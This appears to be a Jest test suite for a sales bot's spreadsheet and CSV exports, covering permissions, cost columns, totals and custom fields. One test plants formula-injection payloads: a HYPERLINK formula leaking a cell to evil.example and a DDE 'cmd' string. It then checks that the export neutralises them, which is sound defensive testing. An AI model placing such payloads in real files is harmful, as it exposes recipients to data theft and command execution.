import { pdfPrinter } from "../../src/adapters/documents/pdf-printer";
import { loadDemo } from "../../src/adapters/demo/load-demo";
import type { Database } from "../../src/adapters/mysql/database";
import { documentNumbers } from "../../src/adapters/mysql/document-numbers";
import { unitOfWork, type MySqlUnitOfWork } from "../../src/adapters/mysql/unit-of-work";
import { readTable } from "../../src/adapters/spreadsheets/read-table";
import { workbookWriter } from "../../src/adapters/spreadsheets/write-workbook";
import { chatFiles } from "../../src/bot/documents/chat-files";
import { exportedLists, exportFile, type ExportedName } from "../../src/bot/documents/exports/export-file";
import type { Days } from "../../src/bot/documents/exports/exported-list";
import { actorFor, systemActor } from "../../src/domain/access/identify-actor";
import { defineField } from "../../src/domain/fields/define-field";
import { fillFields } from "../../src/domain/fields/fill-fields";
import { calendarDay } from "../../src/domain/shared/calendar-day";
import { freshDatabase } from "../support/database";
import { readWorkbook } from "../support/read-workbook";

jest.setTimeout(90_000);

let database: Database;
let work: MySqlUnitOfWork;
const make = chatFiles(pdfPrinter(), workbookWriter());

beforeAll(async () => {
  database = await freshDatabase();
  work = unitOfWork(database, { now: () => new Date("2026-11-25T02:00:00Z") }, documentNumbers(database));
  await loadDemo(work);
});
afterAll(() => database.close());

async function bytesFor(who: string, name: ExportedName, format: "xlsx" | "csv", days: Days | null = null): Promise<Uint8Array | string> {
  const part = exportFile({ name, days }, format);
  const person = await work.run((tx) => tx.people.byNumber(who));
  if (part.kind !== "file" || !person) throw new Error("no file");
  const made = await make(work, part.file, person.id, {});
  if (made?.kind === "text") return made.text;
  if (made?.kind !== "file") throw new Error("nothing was made");
  expect(made.file.name.endsWith(`.${format}`)).toBe(true);
  return made.file.bytes;
}
/** The sheet with its heading, as a reader that did not write it sees it. */
async function sheet(who: string, name: ExportedName, at = 0, days: Days | null = null) {
  const bytes = await bytesFor(who, name, "xlsx", days);
  if (typeof bytes === "string") throw new Error(bytes);
  const read = readWorkbook(bytes)[at];
  if (!read) throw new Error("no such sheet");
  const [heading = [], ...rows] = read.rows;
  return {
    heading,
    formulas: read.formulas,
    rows: rows.map((row) => new Map(heading.map((title, index) => [String(title), row[index] ?? null]))),
  };
}

test.each(Object.keys(exportedLists) as ExportedName[])(
  "%s can be had by who may see all, with as many rows as there are, and opened again",
  async (name) => {
    const { rows, heading, formulas } = await sheet("P9", name);
    const tables: Partial<Record<ExportedName, string>> = {
      customers: "customers",
      leads: "leads",
      products: "products",
      prices: "prices",
      deals: "opportunities",
      quotes: "quotes",
      contracts: "contracts",
      orders: "sales_orders",
      receivables: "receivables",
      payments: "payments",
      invoices: "invoices",
    };
    const [counted] = await database.aside((sql) =>
      sql.rows<{ count: number | string }>(`SELECT COUNT(*) AS count FROM ${tables[name] ?? "stock_levels WHERE on_hand >= 0"}`),
    );
    expect([rows.length, formulas, heading.every((title) => typeof title === "string" && title !== "")]).toEqual([
      Number(counted?.count),
      0,
      true,
    ]);
  },
);

test("a rep gets the own customers, orders and leads alone; the manager the team's", async () => {
  const numbers = async (who: string, name: ExportedName) =>
    (await sheet(who, name)).rows.map((row) => row.get("No.") ?? row.get("编号") ?? row.get("Order"));
  expect(new Set(await numbers("P3", "customers"))).toEqual(new Set(["C006", "C007", "C008", "C009"]));
  expect((await numbers("P1", "customers")).length).toBe(9);
  const owners = async (who: string) => [...new Set((await sheet(who, "orders")).rows.map((row) => row.get("Owner")))];
  expect(await owners("P3")).toEqual(["Tom Baker"]);
});

test("cost and value of stock are columns of those alone who may see cost", async () => {
  for (const [name, columns] of [
    ["products", ["Cost", "Cost currency", "成本", "成本币种"]],
    ["stock", ["Unit cost", "Value", "单位成本", "库存金额"]],
  ] as const) {
    const seen = async (who: string) => (await sheet(who, name)).heading.filter((title) => columns.includes(title as never));
    expect([await seen("P9").then((all) => all.length), await seen("P3")]).toEqual([2, []]);
  }
  expect((await sheet("P3", "quotes", 1)).heading).not.toContain("Unit cost (base currency)");
});

test("stock says what the ledger says, and lines of orders what their orders say", async () => {
  const { rows } = await sheet("P9", "stock");
  for (const row of rows)
    expect(Number(row.get("可用") ?? row.get("Available"))).toBe(
      Number(row.get("在库") ?? row.get("On hand")) - Number(row.get("预占") ?? row.get("Reserved")),
    );
  const orders = await sheet("P3", "orders");
  const lines = await sheet("P3", "orders", 1);
  for (const order of orders.rows) {
    const own = lines.rows.filter((line) => line.get("Order") === order.get("Order"));
    expect(own.reduce((sum, line) => sum + Math.round(Number(line.get("Net")) * 100), 0)).toBe(Math.round(Number(order.get("Net")) * 100));
  }
});

test("what a customer is called is never reckoned by whoever opens the file, and is read again as it was; a telephone number stays one", async () => {
  const evil = '=HYPERLINK("http://evil.example?x="&A1,"open")';
  await database.aside((sql) =>
    sql.run("UPDATE customers SET name = ?, address = ? WHERE number = 'C009'", [evil, "@SUM(1+1)*cmd|' /C calc'!A0"]),
  );
  const { rows, formulas } = await sheet("P3", "customers");
  expect([formulas, rows.find((row) => row.get("No.") === "C009")?.get("Company")]).toEqual([0, evil]);
  const bytes = await bytesFor("P3", "customers", "csv");
  const table = await readTable("customers.csv", bytes as Uint8Array);
  const line = ("contents" in table ? table.contents : []).find((cells) => cells[0] === "C009") ?? [];
  expect(line.filter((cell) => /^[=@]/.test(cell))).toEqual([]);
  expect(line).toContain(`'${evil}`);
  expect(("contents" in table ? table.contents : []).flat().some((cell) => /^\+\d{8,}$/.test(cell))).toBe(true);
});

test("days choose; a list without days is asked for without; who may not read gets a sentence; an empty one is no file", async () => {
  const week = { from: calendarDay("2026-11-01"), to: calendarDay("2026-11-30") };
  const past = { from: calendarDay("2020-01-01"), to: calendarDay("2020-12-31") };
  const all = (await sheet("P9", "payments")).rows.length;
  expect((await sheet("P9", "payments", 0, week)).rows.length).toBeLessThanOrEqual(all);
  expect(await bytesFor("P3", "stock", "xlsx", week)).toContain("has no days");
  expect(await bytesFor("P3", "orders", "csv", past)).toContain("nothing of Orders");
  expect(await bytesFor("P4", "receivables", "xlsx")).toContain("你的角色");
});

test("the company's own fields are columns for whoever may see them, numbers and days as such, choices in words", async () => {
  const id = await work.run(async (tx) => {
    const lead = await tx.people.byNumber("P9");
    if (!lead) throw new Error("no lead");
    const actor = await actorFor(tx, lead, null);
    const options = [
      { zh: "大型", en: "large" },
      { zh: "小型", en: "small" },
    ];
    const fields = [
      await defineField(tx, actor, { recordKind: "customer", label: { zh: "规模", en: "Size" }, kind: "oneOf", settings: { options } }),
      await defineField(tx, actor, { recordKind: "customer", label: { zh: "年产量", en: "Yearly output" }, kind: "number" }),
      await defineField(tx, actor, { recordKind: "customer", label: { zh: "建厂日", en: "Founded on" }, kind: "date" }),
      await defineField(tx, actor, {
        recordKind: "customer",
        label: { zh: "底价", en: "Floor" },
        kind: "number",
        settings: { seenBy: ["finance"] },
      }),
    ];
    const customer = await tx.customers.byNumber({ kind: "all" }, "C001");
    const system = systemActor("test", "Asia/Shanghai");
    const written = ["小型", "1200.5", "2019-03-01", "7"];
    await fillFields(tx, system, {
      record: { kind: "customer", id: customer?.id ?? "" },
      answers: Object.fromEntries(fields.map(({ name }, index) => [name, written[index] ?? null])),
      whole: false,
    });
    return customer?.number;
  });
  const own = async (who: string) => {
    const { rows } = await sheet(who, "customers");
    const row = rows.find((each) => each.get("编号") === id);
    return ["规模", "年产量", "建厂日", "底价"].map((title) => row?.get(title));
  };
  expect(await own("P7")).toEqual(["小型", 1200.5, expect.anything(), 7]);
  expect(await own("P2")).toEqual(["小型", 1200.5, expect.anything(), undefined]);
  expect((await sheet("P7", "customers")).rows.filter((row) => row.get("编号") !== id).every((row) => row.get("年产量") === null)).toBe(
    true,
  );
});
